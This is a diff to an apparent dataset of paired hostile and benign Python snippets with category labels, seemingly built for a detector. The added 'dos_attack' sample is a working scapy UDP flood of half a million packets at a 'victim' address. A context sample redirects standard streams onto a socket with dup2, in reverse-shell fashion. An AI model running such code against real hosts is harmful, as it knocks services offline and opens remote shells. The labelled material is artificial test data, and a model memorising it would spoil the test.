@@ -208,6 +208,12 @@ PAIRS = [
      "    def do_POST(self):\n        event = json.loads(self.rfile.read(int(self.headers['Content-Length'])))\n"
      "        with open('events.log', 'a') as log:\n            log.write(event.get('type', '?') + '\\n')\n"
      "        self.send_response(204)\n        self.end_headers()\nHTTPServer(('0.0.0.0', 9000), Hook).serve_forever()"),
+    ("flood: a scapy packet kept in a name and sent half a million times; the same packet addressed to this machine",
+     "dos_attack",
+     "from scapy.all import IP, UDP, send\nvictim = '203.0.113.9'\npkt = IP(dst=victim)/UDP(dport=80)\n"
+     "send(pkt, count=500000, inter=0)",
+     "from scapy.all import IP, UDP, send\nlab = '127.0.0.1'\npkt = IP(dst=lab)/UDP(dport=80)\n"
+     "send(pkt, count=5000, inter=0)  # feeds our own detector"),
     ("shell: dup2 reached through a parameter's default, on a connected socket; the same helper on a log file",
      "remote_desktop_ssh",
      "import os, pty, socket\ndef attach(k, f=os.dup2):\n    for fd in range(3):\n        f(k.fileno(), fd)\n    return k\n"
